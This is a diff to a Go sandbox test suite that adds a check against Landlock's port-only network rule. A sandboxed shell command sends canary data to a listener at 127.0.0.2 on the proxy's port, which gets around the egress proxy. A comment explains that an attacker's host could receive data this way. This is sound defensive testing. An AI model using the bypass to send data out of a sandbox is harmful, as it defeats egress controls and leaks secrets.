@@ -9,6 +9,7 @@ import (
 	"io"
 	"net"
 	"net/http"
+	"net/netip"
 	"net/url"
 	"os"
 	"os/exec"
@@ -310,7 +311,8 @@ func landlockProxyAttacks(t *testing.T, w world, sb *sandbox.Config, env Env, he
 	os.Remove(w.project + "/proxyaddr")
 	var out bytes.Buffer
 	cmd, err := Command(context.Background(), Spec{Path: "/bin/sh", Args: []string{"-c",
-		`echo "$HTTP_PROXY" > proxyaddr.tmp && mv proxyaddr.tmp proxyaddr; sleep 2; T="t=inside-$T" ` + h("post", "http://github.com/upload")},
+		`echo "$HTTP_PROXY" > proxyaddr.tmp && mv proxyaddr.tmp proxyaddr; sleep 2; T="t=inside-$T" ` + h("post", "http://github.com/upload") +
+			`P=${HTTP_PROXY##*:}; T="t=port-$T" HUSH_LANDLOCK_HELPER=send:127.0.0.2:$P ` + helper + ` 2>&1`},
 		Dir: w.project, Env: append(append(Env{}, env...), tv), Stdout: &out, Stderr: &out, Sandbox: sb, KillGrace: time.Second,
 		Egress: func(ctx context.Context, l net.Listener) {
 			_ = px.Serve(ctx, l, egress.Call{Tool: "bash", Secrets: []string{"GRANTED"}})
@@ -326,6 +328,31 @@ func landlockProxyAttacks(t *testing.T, w world, sb *sandbox.Config, env Env, he
 		b, _ := os.ReadFile(w.project + "/proxyaddr")
 		proxyURL = strings.TrimSpace(string(b))
 		time.Sleep(10 * time.Millisecond)
+	}
+	// What the fallback cannot give: Landlock's rule names a port, not
+	// an address, so a listener on the call's port at another address
+	// (here 127.0.0.2; an attacker's host anywhere can listen on every
+	// port) is reached directly. Logged, as the .env row is.
+	var samePort *keeper
+	if ap, err := netip.ParseAddrPort(strings.TrimPrefix(proxyURL, "http://")); err == nil {
+		if l, err := net.Listen("tcp4", "127.0.0.2:"+strconv.Itoa(int(ap.Port()))); err == nil {
+			samePort = &keeper{l: l}
+			t.Cleanup(func() { l.Close() })
+			go func() {
+				for {
+					c, err := l.Accept()
+					if err != nil {
+						return
+					}
+					b, _ := io.ReadAll(io.LimitReader(c, 4096))
+					samePort.mu.Lock()
+					samePort.accepts++
+					samePort.raw.Write(b)
+					samePort.mu.Unlock()
+					c.Close()
+				}
+			}()
+		}
 	}
 	outsider := "t=outside-" + canary(t)
 	if c, err := net.DialTimeout("tcp", strings.TrimPrefix(proxyURL, "http://"), 2*time.Second); err != nil {
@@ -346,6 +373,11 @@ func landlockProxyAttacks(t *testing.T, w world, sb *sandbox.Config, env Env, he
 	}
 	if !strings.Contains(raw, "t=inside-t="+granted) {
 		t.Errorf("control: the call's own post through its proxy did not arrive: %q\n%s", raw, out.String())
+	}
+	if samePort != nil {
+		if n, raw := samePort.seen(); n > 0 {
+			t.Logf("the fallback cannot give: a listener on the call's proxy port at another address (127.0.0.2) received %q directly", raw)
+		}
 	}
 
 	// UDP (DNS included): nothing leaves.
